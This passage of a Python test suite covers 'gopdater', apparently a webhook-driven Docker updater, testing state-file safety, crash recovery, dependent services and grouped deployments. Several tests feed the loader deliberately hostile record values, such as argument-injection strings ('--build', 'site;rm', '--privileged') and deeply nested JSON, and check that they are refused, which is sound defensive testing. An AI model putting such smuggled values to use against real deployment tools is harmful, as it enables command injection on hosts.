             http.client.HTTPResponse, threading.Thread, subprocess.Popen, subprocess.CompletedProcess, pathlib.Path)
    return {name for kind in kinds for name in dir(kind)} | {"records", "cert", "client", "output"}


TEST_FILES = ("test_gopdater.py", "test_hostile.py", "test_engine.py", "bench/harness.py", "bench/bench_gopdater.py",
              "bench/fake_docker.py", "bench/instructions.py", "bench/bare_server.py", "bench/test_bench.py")


class HouseRulesTest(unittest.TestCase):
    def test_no_function_is_over_fifty_lines(self):
        """Every function and method in gopdater.py fits in 50 lines."""
        import ast
        tree = ast.parse((HERE / "gopdater.py").read_text())
        long = [(node.name, node.lineno, node.end_lineno - node.lineno + 1) for node in ast.walk(tree)
                if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)) and node.end_lineno - node.lineno >= 50]
        self.assertEqual(long, [])

    def test_the_readme_stays_short(self):
        """README.md is at most 2,500 words (as wc -w counts them)."""
        self.assertLessEqual(len((HERE / "README.md").read_text().split()), 2500)

    def test_the_readmes_release_steps_example_is_what_the_engine_test_runs(self):
        """The labels the README's "Release steps" shows are, byte for byte, test_engine.py's RELEASE_LABELS."""
        engine = (HERE / "test_engine.py").read_text()
        labels = re.search(r'RELEASE_LABELS = """\\\n(.*?)"""', engine, re.DOTALL).group(1)
        self.assertIn(f"```yaml\n{labels}```", (HERE / "README.md").read_text())

    def test_every_engine_test_runs_in_a_lane_of_the_test_command(self):
        """Each TestCase of test_engine.py is named in a lane of test.sh (else CI would never run it)."""
        engine = (HERE / "test_engine.py").read_text()
        classes = re.findall(r"^class (\w+)\((?:\w+, )?unittest\.TestCase\):", engine, re.MULTILINE)
        lanes = (HERE / "test.sh").read_text()
        self.assertGreater(len(classes), 5)
        self.assertEqual([c for c in classes if f"test_engine.{c}" not in lanes], [])

    def test_sections_and_their_sub_banners_follow_the_map(self):
        """The banners come in the order a webhook flows through the file, each titled, each with the sub-banners
        SECTIONS names, in order: a new part, or a part moved, changes the map here too."""
        found, closing = [], False
        lines = (HERE / "gopdater.py").read_text().splitlines()
        for number, line in enumerate(lines):
            if line.startswith("# ====="):
                closing = not closing  # a banner opens, its title follows, then the same line closes it
                if closing:
                    title = lines[number + 1] if number + 1 < len(lines) else ""
                    self.assertRegex(title, r"^# \S.*: \S", f"the banner at line {number + 1} has no title")
                    self.assertTrue(lines[number + 2].startswith("# ====="), f"line {number + 3} closes no banner")
                    found.append((title[2:].split(":")[0], []))
            elif line.startswith("# -- "):
                self.assertRegex(line, r"^# -- \S.* -{2,}$", f"line {number + 1} is not a sub-banner's shape")
                found[-1][1].append(re.sub(r" -{2,}$", "", line[5:]))
        self.assertEqual(found, SECTIONS)

    def test_no_function_takes_over_six_parameters_and_no_class_is_over_300_lines(self):
        """Short signatures (pass one value) and small classes, in all of gopdater.py."""
        import ast
        wide, long = [], []
        for node in ast.walk(source_tree()):
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                names = [a.arg for a in (*node.args.posonlyargs, *node.args.args, *node.args.kwonlyargs)]
                if len([n for n in names if n not in ("self", "cls")]) > 6:
                    wide.append((node.name, node.lineno))
            if isinstance(node, ast.ClassDef) and node.end_lineno - node.lineno + 1 > 300:
                long.append((node.name, node.end_lineno - node.lineno + 1))
        self.assertEqual((wide, long), ([], []))

    def test_no_name_is_used_more_than_300_lines_before_its_definition(self):
        """Vocabulary first: a reader meets each name at most 300 lines before it is defined, in code or hint."""
        self.assertEqual(early_uses(source_tree()), [])

    def test_the_measure_of_early_uses_finds_one(self):
        """The measure above is not blind: a hint or a call 301 lines early is found, one 300 early is not."""
        import ast
        gap = "\n" * 299
        source = f"def f(x: 'Late') -> int:\n    return later()\n{gap}\n\nclass Late: pass\ndef later(): pass\n"
        self.assertEqual([name for name, _, _ in early_uses(ast.parse(source))], ["Late", "later"])
        self.assertEqual(early_uses(ast.parse("def f():\n    return g()\n" + "\n" * 290 + "def g(): pass\n")), [])

    def test_the_tests_keep_to_the_public_seams(self):
        """No test reads or writes an attribute a gopdater object keeps for itself: the tests reach objects
        through methods, NamedTuple fields and PUBLIC_SEAMS, so that the implementation can change under them.
        Each PUBLIC_SEAMS entry names attributes its class really keeps."""
        import ast
        tree = source_tree()
        kept = implementation_attributes(tree)
        for name, attributes in gopdater.PUBLIC_SEAMS.items():
            cls = next(node for node in tree.body if isinstance(node, ast.ClassDef) and node.name == name)
            assigned = {node.attr for node in ast.walk(cls) if isinstance(node, ast.Attribute) and
                        isinstance(node.ctx, ast.Store)} | set(getattr(gopdater, name).__dict__)
            self.assertLessEqual(set(attributes), assigned, name)
        own, reached = stdlib_attributes(), []
        for path in TEST_FILES:
            source = ast.parse((HERE / path).read_text())
            own |= {node.attr for node in ast.walk(source) if isinstance(node, ast.Attribute) and
                    isinstance(node.value, ast.Name) and node.value.id == "self" and isinstance(node.ctx, ast.Store)}
            reached += [(node.attr, f"{path}:{node.lineno}") for node in ast.walk(source)
                        if isinstance(node, ast.Attribute) and node.attr in kept and
                        not (isinstance(node.value, ast.Name) and node.value.id == "self")]
        self.assertEqual([(name, where) for name, where in reached if name not in own], [])


# ---------------------------------------------------------------------------------------------
# Crash safety: the journal, recovery at start, the engine going away, history across restarts
# ---------------------------------------------------------------------------------------------


class StateFolderTest(unittest.TestCase):
    def refused_start(self, folder):
        """Start gopdater on STATE_DIR=folder, expecting exit 2 with one line and no command run; that line."""
        stderr = io.StringIO()
        env = {"OWNER": "acme", "WEBHOOK_SECRET": SECRET, "STATE_DIR": folder, "PORT": "0"}
        with mock.patch.dict(os.environ, env, clear=True), contextlib.redirect_stderr(stderr), \
                mock.patch("gopdater.subprocess.Popen") as run:
            self.assertEqual(gopdater.main([]), 2)
        self.assertEqual(stderr.getvalue().count("\n"), 1)
        run.assert_not_called()
        return stderr.getvalue()

    def test_one_gopdater_per_state_folder(self):
        """A second gopdater on the same STATE_DIR stops at start with one line naming the folder; --check
        says so too."""
        folder = state_folder(self)
        first = gopdater.StateLock(folder)
        self.assertIsNone(first.acquire())
        self.addCleanup(first.handle.close)
        message = gopdater.StateLock(folder).acquire()
        self.assertIn(f"STATE_DIR {folder} is in use by another gopdater (pid {os.getpid()})", message)
        self.assertIn("give each gopdater its own STATE_DIR", message)
        self.assertIn("is in use by another gopdater", self.refused_start(folder))
        code, out = check(self, FakeDocker(), STATE_DIR=folder)
        self.assertEqual(code, 1)
        self.assertIn("FAIL STATE_DIR", out)

    def test_a_state_folder_whose_lock_cannot_be_taken_stops_start_up(self):
        """STATE_DIR/lock a link elsewhere (or anything that cannot be opened as a file): exit 2, one line
        naming the folder, no docker command run."""
        folder = state_folder(self)
        os.symlink(os.path.join(folder, "elsewhere"), os.path.join(folder, "lock"))
        self.assertIn(f"STATE_DIR {folder} cannot be locked", self.refused_start(folder))
        self.assertFalse(os.path.exists(os.path.join(folder, "elsewhere")))

    def test_each_project_gets_its_own_default_state_folder(self):
        """With PROJECTS unset the default STATE_DIR is one folder per project, below the shared one."""
        env = {"XDG_STATE_HOME": "/var/lib/x"}
        self.assertEqual(gopdater.default_state_dir(make_config(**env), "/srv/My-Site"),
                         "/var/lib/x/gopdater/projects/my-site")
        self.assertEqual(gopdater.default_state_dir(make_config(COMPOSE_PROJECT_NAME="blog", **env), "/srv/x"),
                         "/var/lib/x/gopdater/projects/blog")
        self.assertEqual(gopdater.default_state_dir(make_config(PROJECTS="*", **env), "/srv/x"), "/var/lib/x/gopdater")

    def test_state_files_are_private_and_a_loose_folder_is_tightened(self):
        """Files 0600 in a 0700 folder: a folder open to others is made 0700 with a warning."""
        folder = state_folder(self)
        os.chmod(folder, 0o755)
        journal = gopdater.Journal(folder)
        with self.assertLogs("gopdater", "WARNING") as logs:
            self.assertIsNone(journal.problem())
        self.assertIn("was open to others", logs.output[0])
        self.assertEqual(os.stat(folder).st_mode & 0o777, 0o700)
        journal.save_history([])
        self.assertEqual(os.stat(journal.history_path).st_mode & 0o777, 0o600)

    def test_a_state_file_that_is_a_link_is_moved_aside_not_followed(self):
        """journal.json pointing elsewhere (planted by someone) is not read through: moved aside, start clean."""
        folder = state_folder(self)
        target = pathlib.Path(folder, "elsewhere.json")
        target.write_text(json.dumps({"version": 2, "updates": {}}))
        os.symlink(target, os.path.join(folder, "journal.json"))
        with self.assertLogs("gopdater", "WARNING") as logs:
            self.assertEqual(gopdater.Journal(folder).load(), ([], []))
        self.assertIn("moved aside", logs.output[0])
        self.assertTrue(target.exists(), "the link's target is untouched")

    def test_absurdly_nested_or_wrongly_shaped_state_is_moved_aside_and_the_worker_lives(self):
        """history.json nested 200,000 levels deep is moved aside; entries of the wrong shape are dropped; the
        worker then deploys as usual."""
        rig = Rig(self)
        pathlib.Path(rig.state_dir, "history.json").write_text("[" * 200000 + "]" * 200000)
        with self.assertLogs("gopdater", "WARNING") as logs:
            self.assertEqual(rig.journal.load(), ([], []))
        self.assertIn("moved aside", "\n".join(logs.output))
        pathlib.Path(rig.state_dir, "history.json").write_text(json.dumps(
            [{"id": "x", "state": {"deep": [1]}}, "nonsense", {"id": "ok", "state": "updated", "steps": [{"step": {"x": 1}}]},
             {"id": "good", "state": "updated"}]))
        with self.assertLogs("gopdater", "WARNING"):  # the three entries of the wrong shape: the file set aside
            self.assertEqual([p["id"] for p in rig.journal.load()[1]], ["good"])
        with self.assertLogs("gopdater", "INFO"):
            self.assertEqual(rig.deploy().state, "updated")

    def test_crafted_history_entries_are_set_aside_and_the_status_page_answers(self):
        """Entries of history.json with a field of the wrong type, an unknown state, steps or logs of the wrong
        shape: each dropped at load, the file moved aside with the good entries kept, /status 200; a huge
        line or error is cut."""
        good = {"id": "0123456789ab", "state": "updated", "image": "docker.io/acme/site", "tag": "latest",
                "service": "site", "hooks": 1, "steps": [{"step": "pull", "result": "ok", "seconds": 1.5}],
                "logs": ["x" * 100_000], "error": "e" * 100_000}
        crafted = [("hooks a string", {"hooks": "1"}), ("hooks a boolean", {"hooks": True}),
                   ("steps a number", {"steps": 1}), ("seconds a string", {"steps": [{"step": "up", "result": "ok",
                                                                                      "seconds": "1"}]}),
                   ("seconds infinite", {"steps": [{"step": "up", "result": "ok", "seconds": 1e999}]}),
                   ("logs of numbers", {"logs": [1, 2]}), ("logs a string", {"logs": "abc"}),
                   ("an unknown state", {"state": "pwned"}), ("a tag of a list", {"tag": ["x"]}),
                   ("an error of an object", {"error": {"x": 1}})]
        for name, change in crafted:
            with self.subTest(name):
                rig = Rig(self)
                path = pathlib.Path(rig.state_dir, "history.json")
                path.write_text(json.dumps([good, {**good, "id": "bad", **change}]))
                with self.assertLogs("gopdater", "WARNING") as logs:
                    self.assertEqual(rig.queue.restore(), 0)
                self.assertIn("1 entries of", logs.output[0])
                self.assertEqual([v["id"] for v in rig.queue.views()], ["0123456789ab"])
                self.assertEqual(len(list(pathlib.Path(rig.state_dir).glob("history.json.corrupt-*"))), 1)
                self.assertEqual([v["id"] for v in json.loads(path.read_text())], ["0123456789ab"])
                response = rig.app.handle("GET", "/status", headers(Authorization=f"Bearer {SECRET}"), b"")
                self.assertEqual(response.status, 200)
                view = rig.queue.views()[0]
                self.assertEqual((len(view["logs"][0]), len(view["error"])), (gopdater.LINE_MAX, 2000))

    def test_a_journal_record_with_an_option_for_a_name_runs_nothing(self):
        """A record naming service "--build" is dropped at load with an error line; recovery runs nothing."""
        rig = Rig(self)
        record = {"kind": "compose", "project": "demo", "service": "--build", "deployment": "0123456789ab",
                  "reference": "docker.io/acme/site:latest", "procedure": "replace", "stage": "up", "started": "t"}
        pathlib.Path(rig.state_dir, "journal.json").write_text(json.dumps({"version": 2, "updates": {"k": record}}))
        queue = rig.new_queue(gopdater.Journal(rig.state_dir))
        with self.assertLogs("gopdater", "ERROR") as logs:
            self.assertEqual(queue.restore(), 0)
        self.assertIn("not one gopdater writes", logs.output[0])
        self.assertEqual(rig.fake.calls, [])

    def test_a_deployment_whose_project_vanished_ends_failed_saying_so(self):
        """The project of a queued deployment is gone by the time it runs: failed, with that reason, no traceback."""
        rig = Rig(self)
        deployment = gopdater.Deployment("0123456789ab", "dockerhub", gopdater.parse_reference("acme/site"), None,
                                         gopdater.ServiceRef("compose", "gone", "site"))
        host = gopdater.Targets([rig.project])
        queue = gopdater.WorkQueue(rig.config, host, gopdater.QueueSeams(rig.clock, rig.clock.sleep,
                                                                   journal=rig.journal))
        outcome = gopdater.run_target(queue, deployment, gopdater.StepLog(deployment, threading.Condition(), rig.clock,
                                                                rig.clock.sleep, rig.journal))
        self.assertEqual((outcome.result, outcome.reason), (gopdater.State.FAILED, "gone/site is no longer found here"))


class JournalProtocolTest(unittest.TestCase):
    def record(self, procedure="replace", stage="stop", kind="compose", **fields):
        return gopdater.Record(kind, "demo", "site", "0123456789ab", "docker.io/acme/site:latest", procedure,
                               gopdater.Stage(stage), "t", **fields)

    def test_recovery_plans_from_the_procedure_the_stage_and_what_runs(self):
        """plan() is each kind's table: what recovery does for each place an update can be cut off; None (run
        nothing) where a kind has no row, also for another kind's procedure."""
        A, S = gopdater.ComposeAction, gopdater.SwarmAction
        cases = [("compose", "replace", "start", True, A.LEAVE), ("compose", "replace", "pull", False, A.LEAVE),
                 ("compose", "replace", "compare", True, A.LEAVE), ("compose", "replace", "stop", True, A.JUDGE),
                 ("compose", "replace", "stop", False, A.BRING_UP), ("compose", "replace", "remove", False, A.BRING_UP),
                 ("compose", "replace", "up", True, A.JUDGE), ("compose", "replace", "up", False, A.BRING_UP),
                 ("compose", "replace", "recover-tag", False, A.BRING_UP),
                 ("compose", "replace", "rollback-tag", True, A.ROLL_BACK),
                 ("compose", "replace", "rollback-up", False, A.ROLL_BACK),
                 ("compose", "start-first", "create", True, A.SETTLE),
                 ("compose", "start-first", "start", False, A.SETTLE),
                 ("compose", "start-first", "connect", True, A.SETTLE),
                 ("compose", "start-first", "stop", True, A.SETTLE), ("swarm", "swarm", "start", True, S.LEAVE),
                 ("swarm", "swarm", "update", True, S.FOLLOW), ("swarm", "swarm", "rollback", False, S.FOLLOW),
                 ("swarm", "swarm", "up", True, None), ("compose", "start-first", "update", True, None),
                 ("compose", "swarm", "update", True, None), ("swarm", "replace", "stop", True, None)]
        for kind, procedure, stage, running, action in cases:
            with self.subTest(kind=kind, procedure=procedure, stage=stage, running=running):
                self.assertIs(gopdater.plan(self.record(procedure, stage, kind), running), action)

    def test_a_stage_with_no_recovery_row_cannot_be_journalled(self):
        """StepLog refuses to journal a stage its procedure has no RECOVERY row for: renaming or adding a step
        without saying what recovery does fails every test that runs it."""
        rig = Rig(self)
        deployment = gopdater.Deployment("0123456789ab", "dockerhub", gopdater.parse_reference("acme/site"), None, SITE)
        steps = gopdater.StepLog(deployment, threading.Condition(), rig.clock, rig.clock.sleep, rig.journal)
        steps.begin(gopdater.ComposeProcedure.REPLACE)
        with self.assertRaisesRegex(ValueError, "update is not a stage of replace"):
            steps.step(gopdater.Stage.UPDATE, lambda: None)
        self.assertEqual(steps.step(gopdater.Stage.PULL, lambda: "pulled"), "pulled")
        self.assertIs(rig.journal.record(steps.key).stage, gopdater.Stage.PULL)
        swarm = gopdater.Deployment("0123456789ab", "dockerhub", gopdater.parse_reference("acme/site"), None,
                                    gopdater.ServiceRef("swarm", "", "site"))
        steps = gopdater.StepLog(swarm, threading.Condition(), rig.clock, rig.clock.sleep, rig.journal)
        steps.begin(gopdater.SwarmProcedure.SWARM)
        with self.assertRaisesRegex(ValueError, "stop is not a stage of swarm"):
            steps.step(gopdater.Stage.STOP, lambda: None)

    def test_every_kind_has_a_handler_for_each_action_its_rows_ask_for(self):
        """Each action a kind's recovery rows name is one its target carries out, for every kind of record."""
        handlers = {"compose": gopdater.COMPOSE_RECOVERY, "swarm": gopdater.SWARM_RECOVERY}
        self.assertEqual(set(gopdater.RECORD_KINDS), set(handlers))
        for kind, row in gopdater.RECORD_KINDS.items():
            with self.subTest(kind=kind):
                asked = {action for actions in row.recovery.values() for action in actions}
                self.assertLessEqual(asked, set(handlers[kind]))

    def test_a_journal_written_by_1_4_is_read_with_each_kinds_own_part(self):
        """journal.json as gopdater 1.4.0 wrote it (one flat object per update) is read back whole: the shared
        fields on the record, a start-first switch's containers and networks and a tracked service's env file in
        Compose's part, Swarm's StartedAt in Swarm's; and written back in the same shape, with the dependents."""
        compose = {"kind": "compose", "project": "demo", "service": "site", "deployment": "0123456789ab",
                   "reference": "docker.io/acme/site:1.4.3", "procedure": "start-first", "stage": "connect",
                   "started": "t", "old_image": OLD_ID, "new_image": NEW_ID, "image": "acme/site:1.4.2",
                   "old_container": "demo-site-1", "new_container": "demo-site-2",
                   "networks": {"demo_default": ["site"]}, "swarm_started": None, "old_tag": "1.4.2",
                   "new_tag": "1.4.3", "env_file": "/srv/demo/.env", "variable": "SITE_TAG"}
        swarm = {**{k: None for k in compose}, "kind": "swarm", "project": "shop", "service": "shop_web",
                 "deployment": "ba9876543210", "reference": "docker.io/acme/web:latest", "procedure": "swarm",
                 "stage": "update", "started": "t", "old_image": "acme/web:latest@sha256:" + "a" * 64,
                 "swarm_started": "2026-12-07T10:00:00Z", "networks": {}}
        record = gopdater.Record.from_json(compose)
        self.assertEqual((record.procedure, record.stage, record.old_tag), ("start-first", gopdater.Stage.CONNECT,
                                                                            "1.4.2"))
        self.assertEqual(record.part, gopdater.ComposePart("demo-site-1", "demo-site-2", {"demo_default": ("site",)},
                                                           "/srv/demo/.env", "SITE_TAG"))
        self.assertEqual(json.loads(json.dumps(record.stored())), {
            **{k: v for k, v in compose.items() if k != "swarm_started"}, "network_dependents": [],
            "restart_dependents": [], "members": [], "switched": []})  # what this version adds
        self.assertEqual(gopdater.Record.from_json(swarm).part, gopdater.SwarmPart("2026-12-07T10:00:00Z"))
        self.assertIs(gopdater.plan(gopdater.Record.from_json(swarm), True), gopdater.SwarmAction.FOLLOW)

    def test_records_gopdater_would_never_write_are_refused(self):
        """A record from disk is acted on only if each field is what gopdater writes; options, bad names and
        unknown stages are refused, and 1.1's shape is read back."""
        good = {"kind": "compose", "project": "demo", "service": "site", "deployment": "0123456789ab",
                "reference": "docker.io/acme/site:latest", "procedure": "replace", "stage": "stop", "started": "t",
                "old_image": OLD_ID, "new_image": NEW_ID, "image": "acme/site:latest"}
        self.assertEqual(gopdater.Record.from_json(good).stage, gopdater.Stage.STOP)
        old_shape = {k: v for k, v in good.items() if k not in ("procedure", "stage")}
        self.assertEqual(gopdater.Record.from_json({**old_shape, "step": "up"}).procedure, "replace")
        bad = [("service", "--build"), ("service", "site;rm"), ("project", "-p"), ("old_image", "--rm"),
               ("image", "--privileged"), ("new_container", "-d"), ("stage", "format-disk"), ("procedure", "x"),
               ("kind", "shell"), ("kind", ["compose"]), ("networks", {"--net": []}), ("networks", {"n": ["--alias"]}), ("networks", "x"),
               ("reference", ""), ("deployment", 7), ("service", None)]
        for field, value in bad:
            with self.subTest(field=field, value=value):
                self.assertIsNone(gopdater.Record.from_json({**good, field: value}))
        self.assertIsNone(gopdater.Record.from_json(["not", "a", "record"]))


VPN_SERVICES = {"vpn": "acme/vpn:latest", "app": "acme/app:latest", "worker": "acme/app:latest"}
RECREATE_APP = ["docker", "compose", "up", "-d", "--no-deps", "--force-recreate", "app"]
RESTART_WORKER = ["docker", "compose", "restart", "worker"]


class DependentsTest(unittest.TestCase):
    """A VPN service, an app in its network namespace (network_mode: service:vpn) and, on Compose v2, a worker
    that restarts with it (depends_on: {vpn: {restart: true}}); a push of the VPN's image."""

    def rig(self, compose=("docker", "compose"), **env):
        fake = FakeDocker(services=dict(VPN_SERVICES), compose=compose)
        fake.network_modes[("demo", "app")] = "vpn"
        if compose == ("docker", "compose"):
            fake.restarts_with[("demo", "worker")] = ("vpn",)
        for c in [c for c in fake.containers.values() if c["service"] == "app"]:
            del fake.containers[c["id"]]
        fake.create("demo", "app")  # it joins the VPN's container
        return Rig(self, fake, COMPOSE_COMMAND=" ".join(compose), **env)

    def containers(self, rig, service):
        return [c for c in rig.fake.containers.values() if c["service"] == service and not c["stopped"]]

    def deploy_vpn(self, rig):
        with self.assertLogs("gopdater", "INFO"):
            return rig.deploy("docker.io/acme/vpn:latest")

    def test_after_an_update_the_app_joins_the_new_vpn_and_the_worker_restarts(self):
        """On both Compose flavours the app is recreated into the new VPN container's namespace, on its own
        image, after the VPN is healthy; on v2 the worker (restart: true) is restarted too; both are steps."""
        for compose in (("docker", "compose"), ("docker-compose",)):
            with self.subTest(compose=compose):
                rig = self.rig(compose)
                worker_started = self.containers(rig, "worker")[0]["started"]
                rig.fake.clock.sleep(5)
                deployment = self.deploy_vpn(rig)
                self.assertEqual(deployment.state, "updated")
                (vpn,), (app,) = self.containers(rig, "vpn"), self.containers(rig, "app")
                self.assertEqual((vpn["image_id"], app["image_id"], app["network_of"]), (NEW_ID, OLD_ID, vpn["id"]))
                calls = rig.fake.mutating_calls()
                recreate = [*compose, "up", "-d", "--no-deps", "--force-recreate", "app"]
                self.assertLess(calls.index([*compose, "up", "-d", "--no-deps", "vpn"]), calls.index(recreate))
                steps = {s.step: s.result for s in deployment.steps}
                self.assertEqual(steps["dependent app"], "recreated")
                v2 = compose == ("docker", "compose")
                self.assertEqual(RESTART_WORKER in calls, v2)
                self.assertEqual(steps.get("dependent worker"), "restarted" if v2 else None)
                self.assertEqual(self.containers(rig, "worker")[0]["started"] != worker_started, v2)

    def test_the_dependents_are_known_again_for_the_next_push(self):
        """On Compose v1 (dependents known from the containers alone) a second push finds the app again: the
        re-read after an update takes in the dependents' new containers too."""
        rig = self.rig(("docker-compose",))
        self.assertEqual(self.deploy_vpn(rig).state, "updated")
        rig.fake.registry["acme/vpn:latest"] = BROKEN_ID
        rig.fake.calls.clear()
        self.assertEqual(self.deploy_vpn(rig).state, "rolled-back")
        self.assertIn(["docker-compose", "up", "-d", "--no-deps", "--force-recreate", "app"], rig.fake.mutating_calls())

    def test_a_broken_push_rolls_the_vpn_back_and_the_app_follows_the_rollback(self):
        """The new VPN exits: it is rolled back, and the app (whose namespace went with the removed container)
        is recreated into the old VPN's, then the worker restarted."""
        rig = self.rig()
        rig.fake.registry["acme/vpn:latest"] = BROKEN_ID
        deployment = self.deploy_vpn(rig)
        self.assertEqual(deployment.state, "rolled-back")
        (vpn,), (app,) = self.containers(rig, "vpn"), self.containers(rig, "app")
        self.assertEqual((vpn["image_id"], app["network_of"]), (OLD_ID, vpn["id"]))
        self.assertEqual(rig.fake.mutating_calls()[-2:], [RECREATE_APP, RESTART_WORKER])

    def test_a_dependent_that_cannot_follow_rolls_the_update_back(self):
        """The app cannot be recreated after a good push: the VPN goes back to its old image, the deployment
        ends rolled-back naming the app, and the app is tried again after the rollback."""
        rig = self.rig()
        rig.fake.fail_if.append((tuple(RECREATE_APP), lambda fake: fake.images["acme/vpn:latest"] == NEW_ID and
                                 any(c["image_id"] == NEW_ID for c in fake.containers.values()), 1, "no such network"))
        deployment = self.deploy_vpn(rig)
        self.assertEqual(deployment.state, "rolled-back")
        self.assertIn("dependent app failed", deployment.error)
        (vpn,), (app,) = self.containers(rig, "vpn"), self.containers(rig, "app")
        self.assertEqual((vpn["image_id"], app["network_of"]), (OLD_ID, vpn["id"]))

    def test_check_lists_each_services_dependents_and_start_first_falls_back(self):
        """--check names who follows the VPN and how; a VPN that asked for start-first is updated stop-first,
        since two VPN containers cannot both hold the app."""
        rig = self.rig(GOPDATER_ORDER="")
        self.assertIn("service demo/vpn: app (recreated after its update), worker (restarted after its update)",
                      findings(rig.project))
        rig = self.rig()
        rig.fake.orders[("demo", "vpn")] = "start-first"
        rig.project.refresh()
        with self.assertLogs("gopdater", "INFO") as logs:
            deployment = rig.deploy("docker.io/acme/vpn:latest")
        self.assertEqual(deployment.state, "updated")
        self.assertIn("start-first falls back to stop-first: services follow it: app", "\n".join(logs.output))
        self.assertIn("stop", [s.step for s in deployment.steps])

    def test_a_crash_while_the_dependents_follow_is_repaired_at_the_next_start(self):
        """Killed right after the app's recreate began: the next start judges the VPN, keeps the new image, and
        the app and the worker follow it again, from the journal's record of them."""
        rig = self.rig()
        rig.queue.submit(gopdater.PushEvent("dockerhub", gopdater.parse_reference("acme/vpn")))
        cut(self, rig, tuple(RECREATE_APP))
        queue = restart(self, rig)
        view = queue.views()[0]
        self.assertEqual(view["state"], "recovered", view)
        self.assertEqual([s["step"] for s in view["steps"] if s["step"].startswith("dependent")],
                         ["dependent app", "dependent worker"])
        (vpn,), (app,) = self.containers(rig, "vpn"), self.containers(rig, "app")
        self.assertEqual((vpn["image_id"], app["network_of"]), (NEW_ID, vpn["id"]))


GROUP = {"web": "acme/site:latest", "worker": "acme/site:latest"}


class GroupTest(unittest.TestCase):
    """web and worker run acme/site:latest in one project: a push of it is one deployment of both."""

    def rig(self, **env):
        fake = FakeDocker(services=dict(GROUP))
        return Rig(self, fake, **env)

    def images(self, rig):
        return {c["service"]: c["image_id"] for c in rig.fake.containers.values() if not c["stopped"]}

    def deploy(self, rig):
        with self.assertLogs("gopdater", "INFO"):
            return rig.deploy()

    def test_a_push_of_their_image_is_one_deployment_of_both_pulled_once(self):
        """One deployment (one id, one view, one notification) lists web and worker, each updated with its own
        images and steps; the image is pulled once; both run the new image."""
        rig = self.rig(NOTIFY_URL="http://127.0.0.1:9/hook")
        deployment = self.deploy(rig)
        self.assertEqual(([str(r) for r in deployment.refs], deployment.state), (["demo/web", "demo/worker"], "updated"))
        (view,) = rig.queue.views()
        self.assertEqual([(m["service"], m["result"], m["old_image"], m["new_image"]) for m in view["services"]],
                         [("web", "updated", OLD_ID, NEW_ID), ("worker", "updated", OLD_ID, NEW_ID)])
        self.assertEqual([s["step"] for s in view["services"][1]["steps"] if s.get("service") == "worker"],
                         ["inspect", "compare", "stop", "remove", "up", "downtime", "wait"])
        self.assertEqual([c for c in rig.fake.calls if c[2:3] == ["pull"]], [["docker", "compose", "pull", "web"]])
        self.assertEqual(self.images(rig), {"web": NEW_ID, "worker": NEW_ID})
        self.assertEqual([body["services"] for _, body in rig.notices], [["web", "worker"]])
        metrics = rig.metrics.render(0)
        for service in ("demo/web", "demo/worker"):
            self.assertIn(f'gopdater_last_deployment_result{{service="{service}",result="updated"}} 1', metrics)

    def test_the_order_is_composes_dependency_order_then_the_name(self):
        """dependency_order(): each service after those it depends on, then by name; a cycle is broken by name.
        A project orders a group by depends_on (v2) and by whose network a service joins."""
        cases = [({"web": set(), "worker": set()}, ["web", "worker"]),
                 ({"web": {"worker"}, "worker": set()}, ["worker", "web"]),
                 ({"a": {"c"}, "b": set(), "c": {"b"}}, ["b", "c", "a"]),
                 ({"a": {"b"}, "b": {"a"}}, ["a", "b"])]
        for after, order in cases:
            with self.subTest(after=after):
                self.assertEqual(gopdater.dependency_order({k: frozenset(v) for k, v in after.items()}), order)
        fake = FakeDocker(services={"web": "acme/site:latest", "api": "acme/site:latest", "db": "acme/site:latest"})
        fake.restarts_with[("demo", "api")] = ("db",)  # depends_on db (with restart: true)
        fake.restarts_with[("demo", "web")] = ("api",)
        rig = Rig(self, fake)
        deployment = self.deploy(rig)
        self.assertEqual([r.name for r in deployment.refs], ["db", "api", "web"])
        ups = [c[-1] for c in fake.mutating_calls() if c[2:5] == ["up", "-d", "--no-deps"]]
        self.assertEqual(ups[:3], ["db", "api", "web"])

    def test_release_steps_run_all_before_then_all_after_and_an_unchanged_service_restarts_nothing(self):
        """Every pre-update, then each migrate, then the switches, then every post-update; a service already on
        the new image is up-to-date within the deployment and not switched."""
        fake = FakeDocker(services={**GROUP, "cron": "acme/site:latest"})
        for service in ("web", "worker"):
            fake.file_labels[("demo", service)] = {"gopdater.pre-update": "dump", "gopdater.migrate": "migrate",
                                                   "gopdater.post-update": "smoke"}
        for c in fake.containers.values():
            if c["service"] == "cron":
                c["image_id"] = NEW_ID
        rig = Rig(self, fake)
        deployment = self.deploy(rig)
        self.assertEqual(deployment.state, "updated")
        order = [(c[1] if c[1] != "compose" else c[2], next((a for a in c if a in ("dump", "migrate", "smoke")), c[-1]))
                 for c in fake.calls if c[1] == "exec" or c[2:4] in (["run", "--rm"], ["up", "-d"])]
        self.assertEqual([step for _, step in order], ["dump", "dump", "migrate", "migrate", "web", "worker", "smoke",
                                                       "smoke"])
        view = rig.queue.views()[0]
        self.assertEqual({m["service"]: m["result"] for m in view["services"]},
                         {"cron": "up-to-date", "web": "updated", "worker": "updated"})
        self.assertNotIn(["docker", "compose", "up", "-d", "--no-deps", "cron"], fake.mutating_calls())

    def test_a_tracked_pair_goes_back_tag_and_env_file_together(self):
        """web and worker both follow ${SITE_TAG} (minor) in one .env: a push of 1.4.3 the worker cannot run
        puts both back on 1.4.2, and the .env says 1.4.2 again."""
        root = tempfile.mkdtemp(prefix="gopdater-group-")
        self.addCleanup(shutil.rmtree, root, True)
        fake = FakeDocker(services={"web": "acme/site:1.4.2", "worker": "acme/site:1.4.2"}, root=root)
        for service in GROUP:
            fake.track("demo", service, SITE_RAW, "SITE_TAG=1.4.2\n", "minor", TRACKED_VERSIONS)
        fake.cannot_run.add(("worker", fake.registry["acme/site:1.4.3"]))
        rig = Rig(self, fake, COMPOSE_FILE=os.path.join(root, "demo", "compose.yaml"))
        with self.assertLogs("gopdater", "INFO"):
            deployment = rig.deploy("docker.io/acme/site:1.4.3")
        self.assertEqual((deployment.state, fake.env_text("demo")), ("rolled-back", "SITE_TAG=1.4.2\n"))
        self.assertEqual(self.images(rig), {"web": OLD_ID, "worker": OLD_ID})

    def test_a_start_first_member_switches_start_first_and_goes_back_with_the_group(self):
        """web asked for start-first: in the group it gets a new container beside the old one; when the worker
        then cannot run the image, web goes back too."""
        for worker_runs, state, web in ((True, "updated", NEW_ID), (False, "rolled-back", OLD_ID)):
            with self.subTest(worker_runs=worker_runs):
                fake = FakeDocker(services=dict(GROUP))
                fake.orders[("demo", "web")] = "start-first"
